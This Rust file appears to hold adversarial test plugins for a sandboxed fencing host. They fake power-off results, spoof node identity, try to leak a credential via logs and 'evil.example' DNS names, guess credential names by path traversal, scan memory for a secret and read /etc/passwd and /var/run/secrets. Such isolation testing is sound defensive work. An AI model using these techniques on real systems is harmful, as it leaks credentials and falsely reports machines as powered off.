//! Attacks by what it says.

use std::time::{Instant, SystemTime};

use crate::answers::{AttackRequest, AttackResult, begin, failed, found};
use crate::bindings::node_remedy::fence::credentials::{self, Hash};
use crate::bindings::node_remedy::fence::types::{Failure, FailureKind, PlugState};
use crate::bindings::node_remedy::fence::{net, op};
use crate::network;

fn device(question: &[u8]) -> Result<String, Failure> {
    let device = net::udp("bmc").map_err(network::refused)?;
    network::ask(&device, question).map(|answer| String::from_utf8_lossy(&answer).into_owned())
}

pub fn say(words: &str) -> AttackResult {
    device(b"status")?;
    Ok(found(PlugState::On, words))
}

/// What the device says, as it says it.
pub fn status() -> AttackResult {
    let said = device(b"status")?;
    Ok(found(if said == "off" { PlugState::Off } else { PlugState::On }, &said))
}

/// An honest off: asked for, and read.
pub fn off() -> AttackResult {
    begin()?;
    device(b"off")?;
    status()
}

pub fn off_then_trap() -> AttackResult {
    begin()?;
    device(b"off")?;
    panic!("after the device acted")
}

/// Nothing was sent, nothing heard.
pub fn claim_off() -> AttackResult {
    begin()?;
    Ok(found(PlugState::Off, "it is off"))
}

/// The device was heard, and never asked to act.
pub fn ask_and_claim_off() -> AttackResult {
    begin()?;
    read_as_off()
}

/// The device was heard, whatever it said.
pub fn read_as_off() -> AttackResult {
    device(b"status")?;
    Ok(found(PlugState::Off, "it is off"))
}

/// Does as it is told, and takes it back.
pub fn off_then_on() -> AttackResult {
    let told = off()?;
    device(b"on")?;
    Ok(told)
}

/// The state of the machine that it was asked about, as another's; and an answer to another question.
pub fn status_of_another(asked: AttackRequest<'_>) -> AttackResult {
    let mut told = status()?;
    told.identity = vec![("system-uuid".to_owned(), asked.get("sought").to_owned())];
    told.extra = vec![("operation-id".to_owned(), "op-of-another-node".to_owned())];
    Ok(told)
}

/// One answer now, another one next time.
pub fn fickle() -> AttackResult {
    device(b"status")?;
    let is_off = op::random(1).first().is_some_and(|byte| byte % 2 == 0);
    Ok(found(if is_off { PlugState::Off } else { PlugState::On }, "now so, now so"))
}

/// Asks to be left alone for as long as can be said.
pub fn busy_for_ever() -> AttackResult {
    op::sleep(1);
    Err(Failure {
        kind: FailureKind::Throttled,
        retryable: true,
        retry_after_ms: Some(u32::MAX),
        device_code: Some(i64::MIN),
        detail: "later".to_owned(),
        extra: vec![],
    })
}

/// Every way out that there is, with a secret that it was shown.
pub fn exfiltrate() -> AttackResult {
    let secret = credentials::open("community").and_then(|community| community.reveal());
    let secret = secret.map_err(|refused| failed(&format!("{refused:?}")))?;
    let words = String::from_utf8_lossy(&secret).into_owned();
    op::log(op::Level::Warn, &format!("log {words}"));
    let hex: String = secret.iter().map(|byte| format!("{byte:02x}")).collect();
    op::log(op::Level::Warn, &format!("hex {hex}"));
    let kept = op::checkpoint(&secret).is_ok();
    let by_name = [format!("{words}.evil.example"), format!("http://{words}.evil.example/")];
    let by_name = by_name.iter().filter(|name| net::udp(name).is_ok()).count();
    let mut told = say(&format!("detail {words}, kept {kept}, by name {by_name}"))?;
    told.identity = vec![("label".to_owned(), words.clone()), (words.clone(), "x".to_owned())];
    told.extra = vec![("note".to_owned(), words)];
    Ok(told)
}

/// Names that are not its own.
pub fn guess_names() -> AttackResult {
    let names = ["root", "../account", "account/../community", "account\0", "ACCOUNT", "", "*"];
    let opened = names.iter().filter(|name| credentials::open(name).is_ok()).count();
    Err(failed(&format!("{opened} of {} names opened", names.len())))
}

/// Has every operation done with a secret that it may not see, and then looks for the secret in all of
/// its own memory. What it looks for stands in the parameter with each byte's bits turned over.
pub fn steal_bytes(asked: AttackRequest<'_>) -> AttackResult {
    let account =
        credentials::open("account").map_err(|refused| failed(&format!("{refused:?}")))?;
    let revealed = account.reveal().is_ok();
    let mac = account.mac(Hash::Sha256, b"x").map(|mac| mac.len());
    let key = account.session_key(Hash::Sha1, b"x");
    let keyed = key.as_ref().map(|key| key.mac(Hash::Sha1, b"y", 12).is_ok());
    let sent = network::get(asked, "/echo").map(|answer| answer.status).unwrap_or_default();
    let sought = asked.get("sought");
    let byte = |at: usize| u8::from_str_radix(&sought[2 * at..2 * at + 2], 16).unwrap_or(0) ^ 0xff;
    let length = sought.len() / 2;
    let end = core::arch::wasm32::memory_size(0) << 16;
    // One byte after the other, so that the whole never stands anywhere because of this search.
    let is_at = |at: usize| {
        (0..length).all(|offset| {
            let place = (at + offset) as *const u8;
            (unsafe { place.read_volatile() }) == byte(offset)
        })
    };
    let found = (1..end.saturating_sub(length)).filter(|at| is_at(*at)).count();
    say(&format!(
        "revealed {revealed}, mac {mac:?}, keyed {keyed:?}, sent {sent}, {found} copies in {end} bytes"
    ))
}

/// Whether a guess at the secret is right, by as many operations as it is given.
pub fn guess_secret(asked: AttackRequest<'_>) -> AttackResult {
    let account =
        credentials::open("account").map_err(|refused| failed(&format!("{refused:?}")))?;
    let answered = (0..asked.number())
        .take_while(|guess| account.mac(Hash::Sha256, &guess.to_be_bytes()).is_ok());
    let answered = answered.count();
    say(&format!("{answered} operations"))
}

pub fn look_around() -> AttackResult {
    let files = ["/etc/passwd", "/proc/self/environ", "/var/run/secrets", "."];
    let read = files.iter().filter(|path| std::fs::read(path).is_ok()).count();
    let listed = std::fs::read_dir("/").is_ok();
    let written = std::fs::write("/tmp/x", "x").is_ok();
    let (variables, arguments) = (std::env::vars().count(), std::env::args().count());
    let mut input = String::new();
    let typed = std::io::stdin().read_line(&mut input).unwrap_or_default();
    // The finest step that a clock shows.
    let begun = Instant::now();
    let mut step = begun.elapsed();
    while step.is_zero() {
        step = begun.elapsed();
    }
    let today = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap_or_default();
    let is_coarse = step.as_nanos() >= 1_000_000 && today.subsec_nanos() % 1_000_000 == 0;
    Err(failed(&format!(
        "read {read}, listed {listed}, written {written}, {variables} variables, {arguments} arguments, \
         {typed} typed, a clock of milliseconds: {is_coarse}"
    )))
}
